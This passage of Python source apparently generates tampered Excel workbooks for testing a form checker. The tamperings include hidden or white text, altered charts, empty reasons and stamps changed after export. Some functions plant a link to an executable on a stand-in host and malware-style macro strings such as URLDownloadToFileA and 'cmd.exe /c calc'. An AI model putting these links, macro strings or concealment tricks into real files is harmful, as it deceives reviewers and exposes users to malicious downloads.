    for old in found.findall(f"{{{MAIN}}}{tag}"):
        found.remove(old)
    one = ET.Element(f"{{{MAIN}}}{tag}")
    one.text = chance.choice(("&C总分 99.5 分", "&L&9经审核，等次：优秀", "&R&G已盖章", '&C&"宋体,加粗"&12以此表为准'))
    found.insert(0, one)
    return sheet, ""


@kind("picture in the page's head")
def page_picture(book, base, chance):
    sheet = visible(base, chance)
    part = f"xl/drawings/vmlDrawing{900 + len(book.parts)}.vml"
    book.parts[part] = (
        b'<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:schemas-microsoft-com:office:excel">'
        b'<v:shape id="CH" type="#_x0000_t75" style="position:absolute;width:400pt;height:300pt"><v:imagedata o:relid="rId1"/></v:shape></xml>'
    )
    book._default("vml", "application/vnd.openxmlformats-officedocument.vmlDrawing")
    key = book._relate(book.sheet_part(sheet), "vmlDrawing", f"../drawings/{part.rpartition('/')[2]}")
    part_of(book, sheet, "legacyDrawingHF", ("picture", "oleObjects", "controls", "tableParts", "extLst")).set(f"{{{RELS}}}id", key)
    return sheet, ""


@kind("picture behind the sheet")
def background(book, base, chance):
    sheet = visible(base, chance)
    book.parts["xl/media/ground.png"] = b"\x89PNG\r\n\x1a\n" + bytes(40)
    book._default("png", "image/png")
    key = book._relate(book.sheet_part(sheet), "image", "../media/ground.png")
    part_of(book, sheet, "picture", ("oleObjects", "controls", "webPublishItems", "tableParts", "extLst")).set(f"{{{RELS}}}id", key)
    return sheet, ""


def print_name(book, base, name):
    """A sheet with such a name of Excel's own, its number, and the element."""
    sheets = [one.get("name") for one in book.book.iter(f"{{{MAIN}}}sheet")]
    found = [one for one in book.book.iter(f"{{{MAIN}}}definedName") if one.get("name") == name]
    return [(sheets[int(one.get("localSheetId"))], one) for one in found]


@kind("print area cut")
def print_area(book, base, chance):
    if base.edition is not Edition.FINISHED:
        return None
    sheet, one = chance.choice(print_name(book, base, "_xlnm.Print_Area"))
    area = base.plan.sheet_by_name[sheet].page.area
    filled = sorted({ref.row for ref, _ in base.places((Computed, Label, Entry)) if ref.sheet == sheet})
    last = chance.choice(filled[1:-1])
    one.text = f"'{sheet}'!$A$1:${column_letter(area[3])}${last}"
    return sheet, ""


@kind("other rows on every page")
def print_titles(book, base, chance):
    if base.edition is not Edition.FINISHED:
        return None
    found = print_name(book, base, "_xlnm.Print_Titles")
    if not found:
        return None
    sheet, one = chance.choice(found)
    one.text = f"'{sheet}'!$20:$22"
    return sheet, ""


@kind("zeros not shown")
def no_zeros(book, base, chance):
    sheet = visible(base, chance)
    next(book.sheet(sheet).iter(f"{{{MAIN}}}sheetView")).set("showZeros", "0")
    return sheet, ""


@kind("formulas shown for values")
def show_formulas(book, base, chance):
    sheet = visible(base, chance)
    next(book.sheet(sheet).iter(f"{{{MAIN}}}sheetView")).set("showFormulas", "1")
    return sheet, ""


@kind("rows out of reach above frozen panes")
def frozen_far(book, base, chance):
    sheet = visible(base, chance)
    view = next(book.sheet(sheet).iter(f"{{{MAIN}}}sheetView"))
    for old in list(view):
        view.remove(old)
    row = chance.randrange(8, 30)
    how = chance.randrange(2)
    if how:
        view.set("topLeftCell", f"A{row}")
        ET.SubElement(view, f"{{{MAIN}}}pane", ySplit="2", topLeftCell=f"A{row + 2}", activePane="bottomLeft", state="frozen")
    else:
        view.set("topLeftCell", "D1")
        ET.SubElement(view, f"{{{MAIN}}}pane", xSplit="1", topLeftCell="E1", activePane="topRight", state="frozen")
    return sheet, ""


@kind("note over a cell")
def note(book, base, chance):
    ref = somewhere(base, chance)
    book.note(ref.sheet, ref.local, "实际为95分")
    return at(ref)


@kind("link into the net")
def hyperlink(book, base, chance):
    ref = somewhere(base, chance)
    key = book._relate(
        book.sheet_part(ref.sheet), "hyperlink", chance.choice(("http://x.cn/a.exe", "file:///D:/a.xlsx", "\\\\10.0.0.1\\a")), outside=True
    )
    links = part_of(book, ref.sheet, "hyperlinks", ("printOptions", "pageMargins", "pageSetup", "headerFooter", "drawing", "extLst"))
    one = ET.SubElement(links, f"{{{MAIN}}}hyperlink", ref=ref.local)
    one.set(f"{{{RELS}}}id", key)
    return at(ref)


@kind("what may be typed taken away")
def validations(book, base, chance):
    sheets = [sheet for sheet in base.plan.sheets if book.sheet(sheet.name).find(f"{{{MAIN}}}dataValidations") is not None]
    if not sheets:
        return None
    sheet = chance.choice(sheets).name
    book.sheet(sheet).remove(book.sheet(sheet).find(f"{{{MAIN}}}dataValidations"))
    return sheet, ""


@kind("cells opened in the protected sheet")
def protected_ranges(book, base, chance):
    sheets = [sheet.name for sheet in base.plan.sheets if sheet.protected and sheet.visibility is Visibility.SHOWN]
    sheet = chance.choice(sheets)
    computed = [ref.local for ref, _ in base.places(Computed) if ref.sheet == sheet]
    ranges = part_of(
        book,
        sheet,
        "protectedRanges",
        (
            "scenarios",
            "autoFilter",
            "mergeCells",
            "phoneticPr",
            "conditionalFormatting",
            "dataValidations",
            "hyperlinks",
            "printOptions",
            "pageMargins",
        ),
    )
    opened = chance.choice(computed) if computed and chance.random() < 0.5 else "A1:Z99"
    ET.SubElement(ranges, f"{{{MAIN}}}protectedRange", sqref=opened, name="区域1")
    return sheet, ""


@kind("dark ink made white in the theme")
def theme(book, base, chance):
    ref = somewhere(base, chance)
    if ground(base, ref) not in ("FFFFFF", "FFF9D9", "F3F3F3"):
        return None
    font(book, ref, lambda own: element(own, "color", theme="1"))
    text = book.parts["xl/theme/theme1.xml"].decode()
    book.parts["xl/theme/theme1.xml"] = re.sub(r"<a:dk1>.*?</a:dk1>", '<a:dk1><a:srgbClr val="FFFFFF"/></a:dk1>', text).encode()
    return ref.sheet, ""


@kind("ink made white in the palette")
def palette(book, base, chance):
    ref = somewhere(base, chance)
    if ground(base, ref) not in ("FFFFFF", "FFF9D9", "F3F3F3"):
        return None
    font(book, ref, lambda own: element(own, "color", indexed="10"))
    styles = book.tree("xl/styles.xml")
    colours = styles.find(f"{{{MAIN}}}colors")
    if colours is None:
        colours = ET.Element(f"{{{MAIN}}}colors")
        styles.append(colours)
    indexed = ET.Element(f"{{{MAIN}}}indexedColors")
    colours.insert(0, indexed)
    for number in range(64):
        ET.SubElement(indexed, f"{{{MAIN}}}rgbColor", rgb="00FFFFFF" if number == 10 else "00000000")
    return at(ref)


@kind("struck through")
def struck(book, base, chance):
    ref = somewhere(base, chance)
    font(book, ref, lambda own: own.insert(0, ET.Element(f"{{{MAIN}}}strike")))
    return at(ref)


@kind("row or column too small to read")
def too_small(book, base, chance):
    ref = somewhere(base, chance)
    if chance.random() < 0.5:
        row = row_of(book, ref)
        if row.get("hidden"):
            return None
        row.set("ht", chance.choice(("3.5", "4", "5")))
        row.set("customHeight", "1")
        return ref.sheet, ""
    columns = book.sheet(ref.sheet).find(f"{{{MAIN}}}cols")
    for one in [] if columns is None else columns:
        wide = base.plan.sheet_by_name[ref.sheet].widths
        if one.get("min") == one.get("max") == str(ref.column + 1) and not one.get("hidden") and wide[ref.column] > 5:
            one.set("width", chance.choice(("0.7", "0.9", "1.2")))
            one.set("customWidth", "1")
            return ref.sheet, ""
    return None


@kind("rows folded away in a group")
def folded(book, base, chance):
    ref = somewhere(base, chance)
    row = row_of(book, ref)
    if row.get("hidden"):
        return None
    row.set("outlineLevel", "1")
    row.set("hidden", "1")
    row.set("collapsed", "1")
    return ref.sheet, ""


@kind("filled row hidden by the filter")
def filtered(book, base, chance):
    found = [
        (ref, one)
        for ref, one in base.places((Entry, Computed))
        for own in [base.plan.sheet_by_name[ref.sheet].filter]
        if own is not None
        and own.area[0] < ref.row <= own.area[2]
        and ref.row not in base.plan.sheet_by_name[ref.sheet].hidden_rows
        and shown(base.plan, one.content) not in (0, "")
    ]
    if not found:
        return None
    ref, _ = chance.choice(found)
    if row_of(book, ref).get("hidden"):
        return None
    row_of(book, ref).set("hidden", "1")
    return ref.sheet, ""


@kind("colours of a scale over black ink")
def colour_scale(book, base, chance):
    ref, _ = pick(base, chance, (Computed, Entry), numeric=True)
    if ref is None:
        return None
    scale = drawn_over(book, ref, "colorScale")
    for what in ("min", "max"):
        ET.SubElement(scale, f"{{{MAIN}}}cfvo", type=what)
    for _ in range(2):
        ET.SubElement(scale, f"{{{MAIN}}}color", rgb="FF000000")
    return at(ref)


@kind("chart of other cells")
def chart_cells(book, base, chance):
    return chart_changed(book, chance, lambda text: re.sub(r"<c:f>([^<]*!)\$B\$\d+:\$B\$\d+</c:f>", r"<c:f>\1$A$1:$A$3</c:f>", text))


@kind("chart of typed numbers")
def chart_numbers(book, base, chance):
    return chart_changed(
        book,
        chance,
        lambda text: re.sub(
            r"<c:numRef>.*?</c:numRef>",
            '<c:numLit><c:ptCount val="1"/><c:pt idx="0"><c:v>100</c:v></c:pt></c:numLit>',
            text,
            count=1,
            flags=re.S,
        ),
    )


@kind("numbers kept in a chart")
def chart_cache(book, base, chance):
    return chart_changed(book, chance, lambda text: re.sub(r"(<c:numCache>.*?<c:v>)[^<]*", r"\g<1>77", text, count=1, flags=re.S))


@kind("title of a chart")
def chart_title(book, base, chance):
    return chart_changed(book, chance, lambda text: re.sub(r"<a:t>[^<]*</a:t>", "<a:t>各项均为满分</a:t>", text, count=1))


def chart_changed(book, chance, change):
    charts = [name for name in book.parts if name.startswith("xl/charts/chart")]
    if not charts:
        return None
    part = chance.choice(charts)
    text = book.parts[part].decode()
    book.parts[part] = change(text).encode()
    return None if book.parts[part].decode() == text else ("", "")


@kind("column put in")
def column_inserted(book, base, chance):
    ref = somewhere(base, chance)
    book.move_columns(ref.sheet, ref.column, chance.choice((1, 2)))
    return ref.sheet, ""


@kind("column taken out")
def column_deleted(book, base, chance):
    ref = somewhere(base, chance)
    lost = {key for key, (there, one) in base.plan.placed.items() if (there.sheet, there.column) == (ref.sheet, ref.column)}
    for cell, own in base.places(Computed):
        if lost & depends(base, own.content):
            error(book, cell, "#REF!")
    book.move_columns(ref.sheet, ref.column + 1, -1)
    return ref.sheet, ""


@kind("compiled macros of another hand")
def compiled_macros(book, base, chance):
    if "xl/vbaProject.bin" not in book.parts:
        return None
    names = ["Excel", "VBA", "Win64", "CreateObject", "jx_macros"]
    texts = ["JxFunctions"]
    if chance.random() < 0.5:
        names.append(chance.choice(("URLDownloadToFileA", "Kill_All", "VirtualAlloc")))
    else:
        texts.append(chance.choice(("http://x.cn/a", "cmd.exe /c calc", "calc")))
    book.parts["xl/vbaProject.bin"] = with_compiled(book.parts["xl/vbaProject.bin"], "jx_macros", names=names, texts=texts)
    return "", ""


# ---- what the unit says in words


def text_entries(base, *, reasons: bool) -> list[tuple[Ref, object, str]]:
    """The cells for a unit's own words: those for reasons, or all others."""
    found = []
    for key, (ref, entry) in base.plan.entries.items():
        typed = entry.accepts.typed if entry.accepts else None
        text = isinstance(entry.value, str) and len(entry.value) > 11 and not entry.given and (typed is None or typed.kind is Kind.TEXT)
        text = text and key not in (UNIT, PROJECT, SUPERIOR) and not key.endswith(("名称", "单位", "部门"))
        if text and base.plan.sheet_by_name[ref.sheet].visibility is Visibility.SHOWN and ("理由" in key or "原因" in key) is reasons:
            found.append((ref, entry, key))
    return found


@kind("reason that says nothing")
def thin_reason(book, base, chance):
    found = text_entries(base, reasons=True)
    if not found:
        return None
    ref, _, _ = chance.choice(found)
    book.put(ref.sheet, ref.local, chance.choice(("无", "同上", "。", "见附件", "单位意见", "情况属实", "无偏差", "/", "详见附件")))
    return at(ref)


@kind("words left to be filled in")
def placeholder(book, base, chance):
    found = text_entries(base, reasons=False)
    if not found:
        return None
    ref, entry, _ = chance.choice(found)
    half = len(entry.value) // 2
    left = chance.choice(("XX", "××", "〔待填〕", "某某", "XXX", "＿＿", "（100字以内）", "****"))
    book.put(ref.sheet, ref.local, f"{entry.value[:half]}，其中{left}万元，{entry.value[half:]}")
    book.said = left
    return at(ref)


@kind("another unit's year")
def another_year(book, base, chance):
    found = text_entries(base, reasons=False)
    if not found:
        return None
    ref, _, _ = chance.choice(found)
    book.put(ref.sheet, ref.local, f"{chance.choice((2012, 2014, 2015))}年，我们按年初计划推进各项工作，较好地完成了全年任务。")
    return at(ref)


# ---- stamp


@kind("stamp of an export removed or changed")
def stamp(book, base, chance):
    if base.edition is not Edition.FINISHED:
        return None
    how = chance.randrange(4)
    if how == 0:
        book.property("填报数据摘要", None)
    elif how == 1:
        book.property("填报数据摘要", "0" * 64)
    elif how == 2:
        book.property("版本", "native")
    else:
        del book.parts["docProps/custom.xml"]
        for part in ("_rels/.rels", "[Content_Types].xml"):
            tree = book.tree(part)
            for one in list(tree):
                if "custom" in (one.get("Target") or one.get("PartName") or ""):
                    tree.remove(one)
    return "", ""


@kind("filled workbook stamped as an export")
def stamped(book, base, chance):
    if base.edition is Edition.FINISHED:
        return None
    book.property("版本", "finished")
    return "", ""


@kind("figure changed after export")
def changed_after(book, base, chance):
    if base.edition is not Edition.FINISHED:
        return None
    ref, one = pick(base, chance, Entry)
    value = one.content.value
    book.put(ref.sheet, ref.local, altered(value, chance) if isinstance(value, str) else float(value) + 1)
    return at(ref)
